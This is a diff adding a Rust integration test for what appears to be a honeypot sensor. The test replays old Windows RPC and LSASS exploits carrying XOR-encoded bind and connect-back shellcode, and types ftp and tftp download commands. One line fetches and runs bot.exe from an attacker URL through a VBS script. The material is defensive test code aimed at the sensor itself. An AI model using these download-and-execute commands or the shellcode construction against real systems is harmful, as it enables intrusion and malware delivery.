@@ -907,3 +907,627 @@ fn forged_udp_source_is_never_contacted() {
     assert_eq!(nft_packets_to(&sens.0, FORGED), 0);
     assert!(nft_packets_to(&sens.0, ATK) > 0);
 }
+
+/// Assembles A1's test shellcode `tests/shellcode/<name>.asm` with nasm
+/// (`-D` defines). The bytes are decoded by the sensor, never executed.
+fn nasm(name: &str, defines: &[(&str, u64)]) -> Vec<u8> {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join(format!("{name}.bin"));
+    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/shellcode")
+        .join(format!("{name}.asm"));
+    let mut cmd = Command::new("nasm");
+    cmd.args(["-f", "bin"]);
+    for (k, v) in defines {
+        cmd.arg(format!("-D{k}={v:#x}"));
+    }
+    let res = cmd.arg("-o").arg(&out).arg(&src).output().expect("nasm");
+    assert!(
+        res.status.success(),
+        "nasm {name}: {}",
+        String::from_utf8_lossy(&res.stderr)
+    );
+    std::fs::read(out).unwrap()
+}
+
+/// `body` behind the byte-XOR jmp/call/pop decoder stub, encoded with a
+/// key that appears nowhere in it (so no encoded byte is zero). The body
+/// is padded with NOPs to 273 bytes, so the stub's `mov cx, LEN` holds no
+/// zero byte either.
+fn xor8_encoded(mut body: Vec<u8>) -> Vec<u8> {
+    assert!(body.len() <= 0x111, "{} bytes", body.len());
+    body.resize(0x111, 0x90);
+    let key = (0x41u8..=0xfe)
+        .find(|k| !body.contains(k))
+        .expect("a key byte the body lacks");
+    let mut sc = nasm(
+        "stub_xor8_jmpcall",
+        &[("KEY", key as u64), ("LEN", body.len() as u64)],
+    );
+    sc.extend(body.iter().map(|b| b ^ key));
+    sc
+}
+
+/// A download body, hand-assembled: WinExec of `command` (its address put
+/// on the stack by jmp/call/pop), then ExitProcess; imports by ror13
+/// hash, the resolver left out, as in A1's tftp_body.asm.
+fn winexec_body(command: &str) -> Vec<u8> {
+    let run: &[u8] = &[
+        0x6a, 0x00, // push byte 0 (SW_HIDE)
+        0x68, 0x98, 0xfe, 0x8a, 0x0e, // push dword 0x0e8afe98 (WinExec)
+        0xff, 0xd5, // call ebp
+        0x6a, 0x00, // push byte 0
+        0x68, 0x7e, 0xd8, 0xe2, 0x73, // push dword 0x73e2d87e (ExitProcess)
+        0xff, 0xd5, // call ebp
+    ];
+    let mut b = vec![0xfc, 0xeb, run.len() as u8]; // cld; jmp short command
+    b.extend_from_slice(run);
+    // command: call run (back over `run` and this call's 5 bytes)
+    let back = -((run.len() + 5) as i32);
+    b.push(0xe8);
+    b.extend_from_slice(&back.to_le_bytes());
+    b.extend_from_slice(command.as_bytes());
+    b.push(0);
+    b
+}
+
+/// The messages of a real Table 7 exploit of `vector` whose overflowing
+/// string carries `shellcode` (NOP-padded) where the download command
+/// would be: the script is built with a marker there, which is then
+/// overwritten byte for byte, so every length stays right.
+fn exploit_with_shellcode(
+    vector: Vector,
+    victim: Ipv4Addr,
+    shellcode: &[u8],
+) -> (u16, Vec<Vec<u8>>) {
+    let chars = shellcode.len().div_ceil(2) + 8;
+    let marker = "Q".repeat(chars);
+    let script = client_script(
+        vector,
+        "10.203.1.2",
+        &victim.to_string(),
+        None,
+        None,
+        &marker,
+        1000,
+        [9; 16],
+        SmbIds::default(),
+    );
+    assert!(!script.udp);
+    let wide: Vec<u8> = marker.bytes().flat_map(|b| [b, 0]).collect();
+    let mut placed = 0;
+    let messages = script
+        .messages
+        .into_iter()
+        .map(|mut m| {
+            if let Some(at) = m.windows(wide.len()).position(|w| w == wide) {
+                let region = &mut m[at..at + wide.len()];
+                region.fill(0x90);
+                region[..shellcode.len()].copy_from_slice(shellcode);
+                placed += 1;
+            }
+            m
+        })
+        .collect();
+    assert_eq!(placed, 1, "the marker is in one message");
+    (script.port, messages)
+}
+
+/// Reads until the shell's prompt; returns everything read.
+fn read_to_prompt(s: &mut TcpStream) -> String {
+    const PROMPT: &[u8] = b"C:\\WINDOWS\\system32>";
+    s.set_read_timeout(Some(Duration::from_secs(40))).unwrap();
+    let mut got = Vec::new();
+    let mut b = [0u8; 1024];
+    while !got.ends_with(PROMPT) {
+        let n = s
+            .read(&mut b)
+            .unwrap_or_else(|e| panic!("no prompt ({e}); got {}", String::from_utf8_lossy(&got)));
+        assert!(n > 0, "shell closed: {}", String::from_utf8_lossy(&got));
+        got.extend_from_slice(&b[..n]);
+    }
+    String::from_utf8(got).unwrap()
+}
+
+/// Types `line` and returns the shell's answer up to the next prompt.
+fn type_line(s: &mut TcpStream, line: &str) -> String {
+    s.write_all(format!("{line}\r\n").as_bytes()).unwrap();
+    read_to_prompt(s)
+}
+
+fn tcp_from(src: &str, to: SocketAddr) -> std::io::Result<TcpStream> {
+    // SAFETY: plain socket calls on a fresh descriptor we own.
+    unsafe {
+        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
+        assert!(fd >= 0);
+        let sa = |ip: Ipv4Addr, port: u16| {
+            let mut sa: libc::sockaddr_in = std::mem::zeroed();
+            sa.sin_family = libc::AF_INET as libc::sa_family_t;
+            sa.sin_addr.s_addr = u32::from(ip).to_be();
+            sa.sin_port = port.to_be();
+            sa
+        };
+        let len = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
+        let from = sa(src.parse().unwrap(), 0);
+        let SocketAddr::V4(to) = to else { panic!() };
+        let dst = sa(*to.ip(), to.port());
+        if libc::bind(fd, (&from as *const libc::sockaddr_in).cast(), len) != 0
+            || libc::connect(fd, (&dst as *const libc::sockaddr_in).cast(), len) != 0
+        {
+            let e = std::io::Error::last_os_error();
+            libc::close(fd);
+            return Err(e);
+        }
+        Ok(<TcpStream as std::os::fd::FromRawFd>::from_raw_fd(fd))
+    }
+}
+
+/// Accepts one connection within `wait`.
+fn accept_within(l: &TcpListener, wait: Duration) -> (TcpStream, SocketAddr) {
+    l.set_nonblocking(true).unwrap();
+    let deadline = Instant::now() + wait;
+    loop {
+        match l.accept() {
+            Ok((s, a)) => {
+                s.set_nonblocking(false).unwrap();
+                return (s, a);
+            }
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < deadline => {
+                std::thread::sleep(Duration::from_millis(50))
+            }
+            Err(e) => panic!("no connection on {:?}: {e}", l.local_addr()),
+        }
+    }
+}
+
+/// The shell paths end to end, with real servers on the attacker side
+/// (vsftpd, tftpd-hpa's in.tftpd, Python's http.server) and the exploits
+/// carrying XOR-encoded shellcode (A1's nasm bodies under the byte-XOR
+/// jmp/call/pop stub):
+/// (a) MS03-026 + bind shell on 4444 + a typed ftp.exe script naming
+///     0.0.0.0: vsftpd opens the data connection to the sensor (active
+///     mode, `tcp_push`); a stranger connecting to 4444 first is refused;
+///     a typed script naming a third party is refused;
+/// (b) MS04-011 + connect-back to the attacker's 5555 + typed `tftp -i`;
+/// (b') MS03-026 + connect-back to a third party: refused, never contacted;
+/// (c) MS03-039 whose shellcode WinExecs a script fetching an HTTP URL.
+/// Asserts vectors, copy methods, shell kinds, the stored SHA-256, the
+/// refusals, and an nftables counter of zero packets to the third party.
+#[test]
+fn shell_sessions_in_namespaces() {
+    const ATK: &str = "10.203.1.2";
+    const THIRD: &str = "10.203.1.3";
+    const STRANGER: &str = "10.203.1.4";
+    let sensor_ip = |i: u8| Ipv4Addr::new(10, 203, 0, 10 + i);
+    for bin in ["ip", "in.tftpd", "vsftpd", "nft", "nasm", "/usr/bin/python3"] {
+        assert!(
+            Command::new("sh")
+                .args([
+                    "-c",
+                    &format!("command -v {bin} || test -x /usr/sbin/{bin}")
+                ])
+                .output()
+                .unwrap()
+                .status
+                .success(),
+            "{bin} missing: scripts/setup.sh installs it"
+        );
+    }
+    let tag = std::process::id() % 100_000;
+    let sens = Netns::new(format!("bsh{tag}"));
+    let atk = Netns::new(format!("bsk{tag}"));
+    let (vs, va) = (format!("vh{tag}"), format!("vk{tag}"));
+    sh(&[
+        "ip", "link", "add", &vs, "type", "veth", "peer", "name", &va,
+    ]);
+    sh(&["ip", "link", "set", &vs, "netns", &sens.0]);
+    sh(&["ip", "link", "set", &va, "netns", &atk.0]);
+    sh(&[
+        "ip",
+        "-n",
+        &sens.0,
+        "addr",
+        "add",
+        "10.203.0.1/16",
+        "dev",
+        &vs,
+    ]);
+    for i in 0..4 {
+        let a = format!("{}/32", sensor_ip(i));
+        sh(&["ip", "-n", &sens.0, "addr", "add", &a, "dev", &vs]);
+    }
+    sh(&["ip", "-n", &sens.0, "link", "set", &vs, "up"]);
+    for a in [ATK, THIRD, STRANGER] {
+        let a = format!("{a}/16");
+        sh(&["ip", "-n", &atk.0, "addr", "add", &a, "dev", &va]);
+    }
+    sh(&["ip", "-n", &atk.0, "link", "set", &va, "up"]);
+    let nft = |args: &[&str]| {
+        let mut a = vec!["ip", "netns", "exec", &sens.0, "nft"];
+        a.extend_from_slice(args);
+        sh(&a);
+    };
+    nft(&["add", "table", "inet", "bs"]);
+    nft(&[
+        "add",
+        "chain",
+        "inet",
+        "bs",
+        "out",
+        "{ type filter hook output priority 0 ; }",
+    ]);
+    for addr in [THIRD, ATK] {
+        nft(&[
+            "add", "rule", "inet", "bs", "out", "ip", "daddr", addr, "counter",
+        ]);
+    }
+
+    // The attacker's servers, serving a synthetic benign specimen.
+    let tmp = tempfile::tempdir().unwrap();
+    let specimen: Vec<u8> = {
+        let mut v = b"MZ".to_vec();
+        v.extend((0..60_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
+        v
+    };
+    let sha = {
+        use sha2::Digest;
+        hex::encode(sha2::Sha256::digest(&specimen))
+    };
+    let srv = tmp.path().join("srv");
+    std::fs::create_dir(&srv).unwrap();
+    std::fs::write(srv.join("bot.exe"), &specimen).unwrap();
+    sh(&["chmod", "-R", "a+rX", tmp.path().to_str().unwrap()]);
+    let _tftpd = atk.spawn(&[
+        "in.tftpd",
+        "--foreground",
+        "--listen",
+        "--address",
+        &format!("{ATK}:69"),
+        "--secure",
+        srv.to_str().unwrap(),
+    ]);
+    std::fs::create_dir_all("/var/run/vsftpd/empty").unwrap();
+    let vsconf = tmp.path().join("vsftpd.conf");
+    // Active mode is vsftpd's default (port_enable); the PORT address
+    // must be the control connection's own (port_promiscuous=NO).
+    std::fs::write(
+        &vsconf,
+        format!(
+            "listen=YES\nlisten_address={ATK}\nbackground=NO\nanonymous_enable=YES\nlocal_enable=NO\n\
+             anon_root={}\nno_anon_password=YES\nport_enable=YES\nport_promiscuous=NO\n\
+             seccomp_sandbox=NO\nisolate_network=NO\nsecure_chroot_dir=/var/run/vsftpd/empty\n",
+            srv.display()
+        ),
+    )
+    .unwrap();
+    let _vsftpd = atk.spawn(&["vsftpd", vsconf.to_str().unwrap()]);
+    let _http = atk.spawn(&[
+        "/usr/bin/python3",
+        "-m",
+        "http.server",
+        "8080",
+        "--bind",
+        ATK,
+        "--directory",
+        srv.to_str().unwrap(),
+    ]);
+
+    // Shellcode, XOR-encoded (never executed).
+    let octets = |a: &str| u32::from_le_bytes(a.parse::<Ipv4Addr>().unwrap().octets()) as u64;
+    let bind = xor8_encoded(nasm("bind_body", &[("PORT", 4444)]));
+    let back = xor8_encoded(nasm(
+        "connect_body",
+        &[("IPLE", octets(ATK)), ("PORT", 5555)],
+    ));
+    let back_third = xor8_encoded(nasm(
+        "connect_body",
+        &[("IPLE", octets(THIRD)), ("PORT", 5556)],
+    ));
+    let http = xor8_encoded(winexec_body(&format!(
+        "cmd /c echo Set x=CreateObject(\"Microsoft.XMLHTTP\"):x.Open \"GET\",\"http://{ATK}:8080/bot.exe\",0:x.Send>d.vbs&cscript d.vbs"
+    )));
+    for sc in [&bind, &back, &back_third, &http] {
+        assert!(
+            !sc.windows(2).any(|w| w == [0, 0]),
+            "no 00 00 in the shellcode"
+        );
+    }
+
+    let store_dir = tmp.path().join("store");
+    let log_path = tmp.path().join("sensor.jsonl");
+    let cfg = SensorConfig::parse(&format!(
+        "addresses = [\"10.203.0.10-10.203.0.13\"]\ntcp_ports = [135, 445]\nudp_ports = []\n\
+         log = \"{}\"\n[limits]\nsession_idle_secs = 3\ndownload_timeout_secs = 15\n\
+         downloads_per_source = 16\nshell_wait_secs = 30\n",
+        log_path.display()
+    ))
+    .unwrap();
+    let (ev_tx, ev_rx) = mpsc::channel::<SensorEvent>();
+    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
+    let store = botscope_specimen::Store::open(&store_dir).unwrap();
+    let sensor = in_ns(&sens.0, move || -> RunReport {
+        let rt = tokio::runtime::Builder::new_multi_thread()
+            .worker_threads(2)
+            .enable_all()
+            .build()
+            .unwrap();
+        rt.block_on(run(
+            cfg,
+            std::sync::Arc::new(StoreSink(std::sync::Mutex::new(store))),
+            move |e| {
+                let _ = ev_tx.send(e.clone());
+            },
+            async {
+                let _ = stop_rx.await;
+            },
+        ))
+        .expect("sensor runs")
+    });
+    let mut events = Vec::new();
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !events
+        .iter()
+        .any(|e| matches!(e, SensorEvent::Started { .. }))
+    {
+        assert!(
+            Instant::now() < deadline,
+            "sensor did not start: {events:?}"
+        );
+        if let Ok(e) = ev_rx.recv_timeout(Duration::from_millis(200)) {
+            events.push(e);
+        }
+    }
+
+    let (bind_c, back_c, back3_c, http_c) =
+        (bind.clone(), back.clone(), back_third.clone(), http.clone());
+    let attacker = in_ns(&atk.0, move || {
+        // The servers answer before anything starts.
+        for port in [21, 8080] {
+            drop(connect_from_attacker(SocketAddr::new(
+                ATK.parse().unwrap(),
+                port,
+            )));
+        }
+        let mut transcript = Vec::new();
+        // (a) MS03-026 + bind shell on 4444.
+        let victim = sensor_ip(0);
+        let (port, msgs) = exploit_with_shellcode(Vector::Ms03_026, victim, &bind_c);
+        replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
+        let shell_at = SocketAddr::new(IpAddr::V4(victim), 4444);
+        // A stranger gets there first: let in by TCP, closed unread.
+        let deadline = Instant::now() + Duration::from_secs(20);
+        let mut stranger = loop {
+            match tcp_from(STRANGER, shell_at) {
+                Ok(s) => break s,
+                Err(e) if Instant::now() > deadline => panic!("bind shell never opened: {e}"),
+                Err(_) => std::thread::sleep(Duration::from_millis(100)),
+            }
+        };
+        stranger
+            .set_read_timeout(Some(Duration::from_secs(10)))
+            .unwrap();
+        let mut b = [0u8; 64];
+        assert!(
+            matches!(stranger.read(&mut b), Ok(0) | Err(_)),
+            "a stranger got the shell"
+        );
+        let mut s = connect_from_attacker(shell_at);
+        transcript.push(read_to_prompt(&mut s));
+        for line in [
+            "echo open 0.0.0.0 21 > o",
+            "echo user anonymous x >> o",
+            "echo bin >> o",
+            "echo get bot.exe >> o",
+            "echo bye >> o",
+            "ftp -n -s:o",
+            // A third party, in one &-chained line: refused.
+            &format!("echo open {THIRD} 21 > t&echo user a b >> t&echo get bot.exe >> t&echo bye >> t&ftp -n -s:t"),
+        ] {
+            transcript.push(type_line(&mut s, line));
+        }
+        s.write_all(b"exit\r\n").unwrap();
+        drop(s);
+        // (b) MS04-011 + connect-back to the attacker's 5555, then tftp.
+        let l = TcpListener::bind(format!("{ATK}:5555")).unwrap();
+        let victim = sensor_ip(1);
+        let (port, msgs) = exploit_with_shellcode(Vector::Ms04_011, victim, &back_c);
+        replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
+        let (mut s, from) = accept_within(&l, Duration::from_secs(30));
+        assert_eq!(
+            from.ip(),
+            IpAddr::V4(victim),
+            "the shell comes from the attacked address"
+        );
+        transcript.push(read_to_prompt(&mut s));
+        transcript.push(type_line(&mut s, &format!("tftp -i {ATK} GET bot.exe")));
+        s.write_all(b"exit\r\n").unwrap();
+        drop(s);
+        // (b') MS03-026 + connect-back to a third party.
+        let victim = sensor_ip(2);
+        let (port, msgs) = exploit_with_shellcode(Vector::Ms03_026, victim, &back3_c);
+        replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
+        // (c) MS03-039 whose shellcode fetches an HTTP URL.
+        let victim = sensor_ip(3);
+        let (port, msgs) = exploit_with_shellcode(Vector::Ms03_039, victim, &http_c);
+        replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
+        transcript
+    });
+    let transcript = attacker.join().expect("attacker script");
+
+    let done = |ev: &[SensorEvent]| {
+        let n = |f: &dyn Fn(&SensorEvent) -> bool| ev.iter().filter(|e| f(e)).count();
+        n(&|e| matches!(e, SensorEvent::Download { .. })) >= 3
+            && n(&|e| matches!(e, SensorEvent::Shell { .. })) >= 2
+            && n(&|e| matches!(e, SensorEvent::ShellRefused { .. })) >= 2
+            && n(&|e| matches!(e, SensorEvent::Session { .. })) >= 4
+    };
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while !done(&events) && Instant::now() < deadline {
+        if let Ok(e) = ev_rx.recv_timeout(Duration::from_millis(200)) {
+            events.push(e);
+        }
+    }
+    std::thread::sleep(Duration::from_secs(1));
+    while let Ok(e) = ev_rx.try_recv() {
+        events.push(e);
+    }
+    let _ = stop_tx.send(());
+    let report = sensor.join().expect("sensor thread");
+
+    // What the attacker saw.
+    assert_eq!(
+        transcript[0],
+        "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"
+    );
+    assert!(
+        transcript[6].contains(&format!("ftp: {} bytes received", specimen.len())),
+        "{}",
+        transcript[6]
+    );
+    assert!(
+        transcript[7].contains("Connection refused"),
+        "{}",
+        transcript[7]
+    );
+    assert!(
+        transcript[9].contains(&format!("Transfer successful: {} bytes", specimen.len())),
+        "{}",
+        transcript[9]
+    );
+
+    // Vectors of the four exploit sessions.
+    let mut vector_at = std::collections::HashMap::new();
+    for e in &events {
+        if let SensorEvent::Session { dst, vectors, .. } = e {
+            vector_at.insert(dst.ip(), vectors.first().cloned().unwrap_or_default());
+        }
+    }
+    for (i, want) in ["MS03-026", "MS04-011", "MS03-026", "MS03-039"]
+        .iter()
+        .enumerate()
+    {
+        assert_eq!(
+            vector_at
+                .get(&IpAddr::V4(sensor_ip(i as u8)))
+                .map(String::as_str),
+            Some(*want),
+            "vector at {}",
+            sensor_ip(i as u8)
+        );
+    }
+    // Downloads: vector, copy method, shell kind and SHA-256.
+    use botscope_sensor::shell::ShellKind;
+    /// (vector, copy method, shell, SHA-256, error) of a download.
+    type Got = (
+        String,
+        String,
+        Option<ShellKind>,
+        Option<String>,
+        Option<String>,
+    );
+    let mut downloads: Vec<Got> = events
+        .iter()
+        .filter_map(|e| match e {
+            SensorEvent::Download {
+                vector,
+                copy_method,
+                shell,
+                sha256,
+                error,
+                ..
+            } => Some((
+                vector.clone().unwrap_or_default(),
+                copy_method.clone(),
+                *shell,
+                sha256.clone(),
+                error.clone(),
+            )),
+            _ => None,
+        })
+        .collect();
+    downloads.sort_by(|a, b| (&a.0, &a.1).cmp(&(&b.0, &b.1)));
+    let ok = |v: &str, m: &str, k: Option<ShellKind>| {
+        (v.to_string(), m.to_string(), k, Some(sha.clone()), None)
+    };
+    assert_eq!(
+        downloads,
+        [
+            ok("MS03-026", "tcp_push", Some(ShellKind::Bind)),
+            ok("MS03-039", "reverse_connect", None),
+            ok("MS04-011", "tftp_get", Some(ShellKind::ConnectBack)),
+        ]
+    );
+    let store = botscope_specimen::Store::open(&store_dir).unwrap();
+    assert_eq!(store.read(&sha).unwrap(), specimen);
+
+    // Shell sessions.
+    let shells: Vec<(ShellKind, IpAddr, usize, usize, &str)> = events
+        .iter()
+        .filter_map(|e| match e {
+            SensorEvent::Shell {
+                kind,
+                dst,
+                lines,
+                fetches,
+                end,
+                ..
+            } => Some((*kind, dst.ip(), *lines, *fetches, *end)),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        shells,
+        [
+            (ShellKind::Bind, IpAddr::V4(sensor_ip(0)), 8, 2, "exit"),
+            (
+                ShellKind::ConnectBack,
+                IpAddr::V4(sensor_ip(1)),
+                2,
+                1,
+                "exit"
+            ),
+        ]
+    );
+    // Refusals: the typed third-party script, the stranger, the
+    // connect-back to a third party.
+    let refusals: Vec<String> = events
+        .iter()
+        .filter_map(|e| match e {
+            SensorEvent::Refused { reason, .. } => Some(format!("refused {reason}")),
+            SensorEvent::ShellRefused { offer, reason, .. } => Some(format!(
+                "shell_refused {} {reason}",
+                serde_json::to_string(offer).unwrap()
+            )),
+            _ => None,
+        })
+        .collect();
+    let atk_ip = ATK;
+    assert_eq!(
+        refusals,
+        [
+            format!("shell_refused {{\"kind\":\"bind\",\"port\":4444}} connection from {STRANGER}, not from the attacking address {atk_ip}"),
+            format!("refused instruction names {THIRD}, not the attacking address {atk_ip}"),
+            format!("shell_refused {{\"kind\":\"connect_back\",\"addr\":\"{THIRD}\",\"port\":5556}} instruction names {THIRD}, not the attacking address {atk_ip}"),
+        ]
+    );
+    // Not one packet to the third party; the attacker's counter counts.
+    assert_eq!(nft_packets_to(&sens.0, THIRD), 0);
+    assert!(nft_packets_to(&sens.0, ATK) > 0);
+    assert_eq!(
+        (report.shells, report.downloads_ok, report.refused),
+        (2, 3, 3)
+    );
+    // The event log has it too: one JSON line per download, with the shell.
+    let log = std::fs::read_to_string(&log_path).unwrap();
+    let line = log
+        .lines()
+        .find(|l| l.contains(r#""event":"download""#) && l.contains(r#""shell":"bind""#))
+        .expect("bind-shell download in the log");
+    for want in [
+        r#""vector":"MS03-026""#.to_string(),
+        r#""copy_method":"tcp_push""#.to_string(),
+        format!(r#""sha256":"{sha}""#),
+    ] {
+        assert!(line.contains(&want), "{want} in {line}");
+    }
+}
